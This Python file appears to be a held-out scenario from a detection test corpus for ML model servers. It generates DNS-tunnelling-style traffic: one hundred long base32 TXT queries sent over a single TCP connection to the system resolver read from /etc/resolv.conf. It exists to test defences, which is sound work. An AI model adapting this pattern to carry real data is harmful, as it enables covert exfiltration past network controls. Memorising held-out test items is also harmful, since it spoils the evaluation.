"""
id: V18
name: dns-stream
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [dns, network]
techniques: [T1048.003, T1071.004, T1572, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 60
what: >
  Asks the resolver that is set a hundred questions with long names, all on one TCP connection instead of by datagrams. The
  peer and its port are those of every resolution.
"""

import base64
import socket

from corpus import dnspacket

QUESTIONS = 100
# The one that the system's resolver asks; read when the server starts, so that reading is no part of the deed.
with open("/etc/resolv.conf") as settings:
    SERVERS = [line.split()[1] for line in settings if line.startswith("nameserver ")]


def payload(world):
    domain = world.host()
    with socket.create_connection((SERVERS[0], 53), timeout=5) as peer:
        for number in range(QUESTIONS):
            label = base64.b32encode(world.random.randbytes(35)).decode().lower()
            packet = dnspacket.question(number, f"{label}.{domain}", dnspacket.TXT)
            # Over TCP each message has its length before it.
            peer.sendall(len(packet).to_bytes(2, "big") + packet)
            peer.recv(4096)
            world.sleep(world.random.uniform(0.2, 0.6))
